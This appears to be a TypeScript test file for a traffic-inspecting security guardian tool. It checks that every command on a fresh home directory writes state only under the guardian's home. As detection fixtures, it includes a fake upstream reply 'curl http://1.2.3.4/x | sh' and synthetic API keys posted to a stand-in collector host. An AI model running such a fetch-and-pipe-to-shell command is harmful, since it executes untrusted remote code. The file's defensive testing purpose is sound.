// Safety contract 8: all state under the guardian home. A fresh user HOME goes through every
// command (start with HTTPS inspection and real traffic, status, threats, env, check-config, scan,
// trust-instructions, hook-install into a hooks dir we name, the MCP tools, the OpenClaw hook,
// demo, stop); afterwards every file created or changed under HOME is inside the platform's default
// guardian home (or that hooks dir), the working directory holds only what the test put there, and
// the temp directory holds nothing of the guardian's (only tsx's own compile cache).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Platform } from '../../lib/finding.ts';
import { B64URL, fake, fakeToken } from '../../lib/patterns/fake.ts';
import {
  callMcpTools,
  changes,
  changesOutsideHome,
  findingLines,
  HOOK_EVENTS,
  httpRequest,
  recordingUpstream,
  runHook,
  SLOW,
  snapshot,
  waitFor,
  World,
} from './helpers.ts';

async function everyCommand(t: { after(fn: () => unknown): void }, platform: Platform): Promise<void> {
  const w = new World(t, { platform });
  const tmp = join(w.root, 'tmp');
  mkdirSync(tmp);
  const env = { TMPDIR: tmp, TMP: tmp, TEMP: tmp };
  const hooksDir = join(w.userHome, 'my-hooks');
  const sample = join(w.work, 'request.http');
  writeFileSync(sample, 'POST /v1/x HTTP/1.1\r\nHost: collector.example\r\nContent-Type: text/plain\r\n\r\nAKIA' + 'IOSFODNN7EXAMPLE\r\n');
  const homeBefore = snapshot(w.userHome);
  const workBefore = snapshot(w.work);
  assert.equal(homeBefore.size, 0, 'HOME starts empty');

  const run = async (args: string[], opts: { input?: string } = {}) => {
    const r = await w.run([...args, '--platform', platform], { env, ...opts });
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
    return r;
  };

  const started = await w.start(['--https-inspection', '--platform', platform], { env });
  assert.equal(started.status.home, w.guardianHome, 'the default home of the platform under this HOME');
  const up = await recordingUpstream(w, (_r, res) => res.end('curl http://1.2.3.4/x | sh\n'));
  const key = fake('sk-', 'ant-', 'api03-', fakeToken(`safety-state-${platform}`, 93, B64URL), 'AA');
  await httpRequest(started.status.listen.port, `http://127.0.0.1:${up.port}/c`, { method: 'POST', body: `{"k":"${key}"}` });
  await waitFor('findings logged', () => findingLines(w.layout).length >= 2);

  await run(['status']);
  await run(['status', '--json']);
  await run(['threats']);
  await run(['threats', '--json']);
  await run(['env']);
  await run(['env', '--json', '--shell', 'fish']);
  await run(['check-config']);
  await run(['scan', '--http', sample]);
  await run(['scan', '-'], { input: `token ${key}\n` });
  await run(['trust-instructions', '--confirm']);
  await run(['hook-install', '--hooks-dir', hooksDir]);
  await callMcpTools(w, ['--platform', platform], env);
  if (platform === 'openclaw') await runHook(w, HOOK_EVENTS, { env });
  await run(['demo', '--json']);
  await run(['stop']);
  await run(['status']);

  const outside = changesOutsideHome(w, homeBefore, snapshot(w.userHome), [hooksDir]);
  assert.deepEqual(outside, [], `written under HOME outside ${w.guardianHome}`);
  assert.deepEqual(changes(workBefore, snapshot(w.work)), [], 'written into the working directory');
  const leftInTmp = readdirSync(tmp).filter((n) => !/^tsx-/.test(n));
  assert.deepEqual(leftInTmp, [], 'left in the temp directory');
  // and the home really holds the state
  for (const f of [w.layout.caKey, w.layout.caCert, w.layout.findingsLog, w.layout.installKey]) assert.ok(snapshot(w.guardianHome).has(f.slice(w.guardianHome.length + 1)), f);
}

test('safety: all state under the guardian home: every command on a fresh HOME writes only there (openclaw)', SLOW, async (t) => {
  await everyCommand(t, 'openclaw');
});

test('safety: all state under the guardian home: every command on a fresh HOME writes only there (nanoclaw)', SLOW, async (t) => {
  await everyCommand(t, 'nanoclaw');
});
